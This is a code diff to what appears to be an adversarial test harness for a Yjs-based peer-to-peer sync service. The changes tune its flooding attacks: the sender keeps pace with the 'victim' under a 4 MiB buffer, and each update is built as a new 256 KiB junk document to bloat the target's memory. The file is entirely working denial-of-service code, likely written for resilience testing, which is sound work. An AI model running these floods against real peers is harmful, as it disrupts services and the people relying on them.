@@ -73,7 +73,11 @@ let framesSent = 0
 async function put(s: RawStream, payload: Uint8Array): Promise<boolean> {
   if (s.closed) return false
   framesSent++
-  if (!s.frame(payload)) await s.stream.onDrain({ signal: AbortSignal.timeout(2000) }).catch(() => {})
+  // full speed, but no faster than the victim reads: what it has not taken stays below 4 MiB on our side
+  if (!s.frame(payload) || s.stream.writeBufferLength > 4 * 1024 * 1024)
+    await s.stream.onDrain({ signal: AbortSignal.timeout(2000) }).catch(() => {})
+  // a drain that resolves at once would keep us in microtasks for ever: let timers and sockets run
+  if (framesSent % 64 === 0) await new Promise((r) => setImmediate(r))
   return !s.closed
 }
 
@@ -184,14 +188,13 @@ const ATTACKS: Record<string, Attack> = {
             return true
           }
           if (!(await send({ kind: 'join', room: 'peercompute', proof: new Uint8Array(0) }))) return
-          const doc = new Y.Doc()
           const junk = 'x'.repeat(256 * 1024)
           for (let i = 0; !stop.done && i < 100_000; i++) {
-            let update: Uint8Array = new Uint8Array(0)
-            doc.once('update', (u: Uint8Array) => {
-              update = u
-            })
+            // a fresh document (a new client) per update: each is new to the victim, and ours stays small
+            const doc = new Y.Doc()
             doc.getMap('bloat').set(`k${i}`, junk)
+            const update = Y.encodeStateAsUpdate(doc)
+            doc.destroy()
             const e = encoding.createEncoder()
             syncProtocol.writeUpdate(e, update)
             const payload = encoding.toUint8Array(e)
